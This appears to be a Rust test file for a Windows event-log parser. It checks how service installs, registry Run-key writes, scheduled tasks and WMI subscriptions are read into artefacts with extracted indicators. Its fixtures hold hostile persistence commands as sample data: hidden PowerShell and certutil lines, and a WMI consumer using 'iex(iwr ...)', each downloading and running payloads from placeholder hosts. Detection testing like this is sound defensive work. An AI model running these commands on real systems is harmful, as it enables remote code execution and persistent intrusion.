//! Services, registry values, scheduled tasks and WMI subscriptions.

use serde_json::json;
use vigil_telemetry::ArtefactKind::*;
use vigil_telemetry::ArtefactOp::*;
use vigil_telemetry::MentionKind::{Domain, File, Ip, Url};
use vigil_telemetry::{Artefact, EventKind};

use crate::common::{artefact_of, event_of, facts, mentions, with};

#[test]
fn a_service_with_a_quoted_path_and_arguments_names_its_binary_and_url() {
    let image = r#""C:\Program Files\Updater\upd.exe" -k http://203.0.113.7/cfg.bin"#;
    let artefact = artefact_of(json!({
        "Channel": "System", "EventID": 7045, "Provider_Name": "Service Control Manager",
        "ServiceName": "UpdaterSvc", "ImagePath": image,
        "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem",
    }));
    assert_eq!(
        artefact,
        Artefact {
            kind: Service,
            op: Created,
            name: "UpdaterSvc".into(),
            value: Some(image.into()),
            facts: facts(&[
                ("start type", "auto start"),
                ("account", "LocalSystem"),
                ("type", "user mode service"),
            ]),
            mentions: mentions(&[
                (File, r"C:\Program Files\Updater\upd.exe"),
                (Url, "http://203.0.113.7/cfg.bin"),
                (Ip, "203.0.113.7"),
            ]),
        }
    );
}

#[test]
fn a_4697_services_codes_read_as_words_and_its_binary_keeps_its_variable() {
    let event = event_of(json!({
        "Channel": "Security", "EventID": 4697,
        "SubjectUserName": "admin", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7",
        "ServiceName": "PSEXESVC", "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
        "ServiceType": "0x10", "ServiceStartType": 3, "ServiceAccount": "LocalSystem",
    }));
    assert_eq!(event.user.as_deref(), Some("CORP\\admin"));
    assert_eq!(event.logon_id, Some(0x3e7));
    assert_eq!(
        event.artefact.as_deref(),
        Some(&Artefact {
            kind: Service,
            op: Created,
            name: "PSEXESVC".into(),
            value: Some(r"%SystemRoot%\PSEXESVC.exe".into()),
            facts: facts(&[
                ("start type", "demand start"),
                ("account", "LocalSystem"),
                ("type", "own process"),
            ]),
            mentions: mentions(&[(File, r"%SystemRoot%\PSEXESVC.exe")]),
        })
    );
}

#[test]
fn sysmon_registry_events_name_the_value_and_read_its_data() {
    let sysmon = |fields: serde_json::Value| {
        let record = json!({"Channel": "Microsoft-Windows-Sysmon/Operational",
            "Image": "C:\\Windows\\System32\\reg.exe", "ProcessId": 4242});
        artefact_of(with(record, fields))
    };
    let run = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater";
    assert_eq!(
        sysmon(
            json!({"EventID": 13, "EventType": "SetValue", "TargetObject": run,
            "Details": "C:\\Users\\bob\\AppData\\Roaming\\upd.exe"})
        ),
        Artefact {
            kind: RegistryValue,
            op: Created,
            name: run.into(),
            value: Some(r"C:\Users\bob\AppData\Roaming\upd.exe".into()),
            facts: vec![],
            mentions: mentions(&[(File, r"C:\Users\bob\AppData\Roaming\upd.exe")]),
        }
    );
    let proxy = r"HKLM\SOFTWARE\Policies\Proxy\Enable";
    assert_eq!(
        sysmon(
            json!({"EventID": 13, "EventType": "SetValue", "TargetObject": proxy,
            "Details": "DWORD (0x00000001)"})
        ),
        Artefact {
            kind: RegistryValue,
            op: Created,
            name: proxy.into(),
            value: Some("1".into()),
            facts: facts(&[("type", "DWORD")]),
            mentions: vec![],
        }
    );
    assert_eq!(
        sysmon(json!({"EventID": 14, "EventType": "RenameKey",
            "TargetObject": "HKLM\\SOFTWARE\\Old", "NewName": "HKLM\\SOFTWARE\\New"})),
        Artefact {
            kind: RegistryValue,
            op: Changed,
            name: r"HKLM\SOFTWARE\Old".into(),
            value: None,
            facts: facts(&[("new name", r"HKLM\SOFTWARE\New")]),
            mentions: vec![],
        }
    );
    assert_eq!(
        sysmon(json!({"EventID": 12, "EventType": "DeleteValue", "TargetObject": run})).op,
        Deleted
    );
}

#[test]
fn a_4657_joins_key_and_value_in_hive_names_with_the_old_value() {
    let event = event_of(json!({
        "Channel": "Security", "EventID": 4657,
        "SubjectUserName": "bob", "SubjectDomainName": "CORP", "SubjectLogonId": "0x5a3c1",
        "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "ObjectValueName": "Updater", "HandleId": "0x2d8", "OperationType": "%%1905",
        "OldValueType": "%%1873", "OldValue": "C:\\Windows\\old.exe",
        "NewValueType": "%%1873",
        "NewValue": "powershell -w hidden -c iwr http://evil.example/a.ps1 -o $env:TEMP\\a.ps1",
        "ProcessId": "0x141e", "ProcessName": "C:\\Windows\\System32\\reg.exe",
    }));
    let name = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater";
    let data = r"powershell -w hidden -c iwr http://evil.example/a.ps1 -o $env:TEMP\a.ps1";
    assert_eq!(event.kind, EventKind::RegistrySet);
    assert_eq!(
        event.artefact.as_deref(),
        Some(&Artefact {
            kind: RegistryValue,
            op: Changed,
            name: name.into(),
            value: Some(data.into()),
            facts: facts(&[("type", "REG_SZ"), ("old value", r"C:\Windows\old.exe")]),
            mentions: mentions(&[
                (Url, "http://evil.example/a.ps1"),
                (Domain, "evil.example"),
                (File, r"$env:TEMP\a.ps1"),
            ]),
        })
    );
    assert_eq!(event.registry_key.as_deref(), Some(name));
    assert_eq!(event.registry_value.as_deref(), Some(data));
    assert_eq!(event.image.as_deref(), Some(r"C:\Windows\System32\reg.exe"));
    assert_eq!(event.pid, Some(0x141e));
    assert_eq!(event.user.as_deref(), Some("CORP\\bob"));
}

const TASK_XML: &str = r#"<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Author>CORP\bob</Author><URI>\Updater</URI></RegistrationInfo>
  <Triggers>
    <LogonTrigger><Enabled>true</Enabled></LogonTrigger>
    <CalendarTrigger><StartBoundary>2026-01-01T00:00:00</StartBoundary></CalendarTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>
  </Principals>
  <Settings><Hidden>true</Hidden></Settings>
  <Actions Context="Author">
    <Exec>
      <Command>C:\Windows\System32\cmd.exe</Command>
      <Arguments>/c certutil -urlcache -f http://evil.example/p.exe %TEMP%\p.exe &amp;&amp; %TEMP%\p.exe</Arguments>
    </Exec>
  </Actions>
</Task>"#;

#[test]
fn a_4698_task_reads_its_command_account_author_and_triggers_from_its_xml() {
    let event = event_of(json!({
        "Channel": "Security", "EventID": 4698,
        "SubjectUserName": "bob", "SubjectDomainName": "CORP", "SubjectLogonId": "0x5a3c1",
        "TaskName": "\\Updater", "TaskContent": TASK_XML,
    }));
    let command = r"C:\Windows\System32\cmd.exe /c certutil -urlcache -f http://evil.example/p.exe %TEMP%\p.exe && %TEMP%\p.exe";
    assert_eq!(event.command_line.as_deref(), Some(command));
    assert_eq!(
        event.artefact.as_deref(),
        Some(&Artefact {
            kind: ScheduledTask,
            op: Created,
            name: r"\Updater".into(),
            value: Some(command.into()),
            facts: facts(&[
                ("run as", "S-1-5-18"),
                ("run level", "HighestAvailable"),
                ("author", r"CORP\bob"),
                ("trigger", "at logon"),
                ("trigger", "on a schedule"),
                ("hidden", "yes"),
            ]),
            mentions: mentions(&[
                (File, r"C:\Windows\System32\cmd.exe"),
                (Url, "http://evil.example/p.exe"),
                (Domain, "evil.example"),
                (File, r"%TEMP%\p.exe"),
            ]),
        })
    );
    let deleted = artefact_of(json!({"Channel": "Security", "EventID": 4699,
        "TaskName": "\\Updater", "TaskContent": TASK_XML}));
    assert_eq!(
        (deleted.op, deleted.value.as_deref()),
        (Deleted, Some(command))
    );
}

#[test]
fn a_task_schedulers_action_started_is_a_run_of_its_program() {
    let event = event_of(json!({
        "Channel": "Microsoft-Windows-TaskScheduler/Operational", "EventID": 200,
        "TaskName": "\\Updater", "ActionName": "C:\\Users\\Public\\u.exe",
        "TaskInstanceId": "{2f0a6d6e-9b79-4d2b-8c5a-2f6d7f0f1a11}", "EnginePID": 1234,
    }));
    assert_eq!(event.kind, EventKind::ScheduledTask);
    assert_eq!(event.image.as_deref(), Some(r"C:\Users\Public\u.exe"));
    assert_eq!(
        event.artefact.as_deref(),
        Some(&Artefact {
            kind: ScheduledTask,
            op: Ran,
            name: r"\Updater".into(),
            value: Some(r"C:\Users\Public\u.exe".into()),
            facts: vec![],
            mentions: mentions(&[(File, r"C:\Users\Public\u.exe")]),
        })
    );
}

#[test]
fn a_5861_binding_names_its_consumer_and_pulls_the_command_line_template_out() {
    let cause = r#"Binding EventFilter: 
instance of __EventFilter
{
	CreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};
	EventNamespace = "root\\cimv2";
	Name = "Updater";
	Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
	QueryLanguage = "WQL";
};
Perm. Consumer: 
instance of CommandLineEventConsumer
{
	CommandLineTemplate = "powershell.exe -nop -c \"iex(iwr http://198.51.100.9/s.ps1)\"";
	CreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};
	Name = "Updater";
};
"#;
    let artefact = artefact_of(json!({
        "Channel": "Microsoft-Windows-WMI-Activity/Operational", "EventID": 5861,
        "Namespace": "//./root/subscription", "ESS": "Updater",
        "CONSUMER": "CommandLineEventConsumer=\"Updater\"", "PossibleCause": cause,
    }));
    assert_eq!(
        artefact,
        Artefact {
            kind: WmiSubscription,
            op: Created,
            name: "Updater".into(),
            value: Some(r#"powershell.exe -nop -c "iex(iwr http://198.51.100.9/s.ps1)""#.into()),
            facts: facts(&[
                ("type", "CommandLineEventConsumer"),
                ("filter", "Updater"),
                (
                    "query",
                    "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
                ),
                ("namespace", r"root\cimv2"),
            ]),
            mentions: mentions(&[
                (File, "powershell.exe"),
                (Url, "http://198.51.100.9/s.ps1"),
                (Ip, "198.51.100.9"),
            ]),
        }
    );
}

#[test]
fn sysmon_wmi_events_read_their_mof_quoted_fields() {
    let sysmon = |id: i64, fields: serde_json::Value| {
        let record = json!({"Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": id, "Operation": "Created", "User": "CORP\\bob"});
        event_of(with(record, fields))
    };
    let filter = sysmon(
        19,
        json!({"EventType": "WmiFilterEvent", "EventNamespace": " \"root\\\\CimV2\"",
            "Name": " \"UpdaterFilter\"",
            "Query": " \"SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'\""}),
    );
    assert_eq!(filter.kind, EventKind::WmiSubscription);
    assert_eq!(
        filter.artefact.as_deref(),
        Some(&Artefact {
            kind: WmiSubscription,
            op: Created,
            name: "UpdaterFilter".into(),
            value: Some(
                "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'"
                    .into()
            ),
            facts: facts(&[("type", "__EventFilter"), ("namespace", r"root\CimV2")]),
            mentions: vec![],
        })
    );
    let consumer = sysmon(
        20,
        json!({"EventType": "WmiConsumerEvent", "Name": " \"Updater\"", "Type": "Command Line",
            "Destination": " \"C:\\\\Users\\\\Public\\\\u.exe -q\""}),
    );
    assert_eq!(consumer.user.as_deref(), Some("CORP\\bob"));
    assert_eq!(
        consumer.artefact.as_deref(),
        Some(&Artefact {
            kind: WmiSubscription,
            op: Created,
            name: "Updater".into(),
            value: Some(r"C:\Users\Public\u.exe -q".into()),
            facts: facts(&[("type", "CommandLineEventConsumer")]),
            mentions: mentions(&[(File, r"C:\Users\Public\u.exe")]),
        })
    );
    let binding = sysmon(
        21,
        json!({"EventType": "WmiBindingEvent", "Operation": "Deleted",
            "Consumer": " \"\\\\\\\\.\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name=\\\"Updater\\\"\"",
            "Filter": " \"\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\\"UpdaterFilter\\\"\""}),
    );
    assert_eq!(
        binding.artefact.as_deref(),
        Some(&Artefact {
            kind: WmiSubscription,
            op: Deleted,
            name: "Updater".into(),
            value: None,
            facts: facts(&[
                ("type", "__FilterToConsumerBinding"),
                ("consumer", "CommandLineEventConsumer"),
                ("filter", "UpdaterFilter"),
            ]),
            mentions: vec![],
        })
    );
}
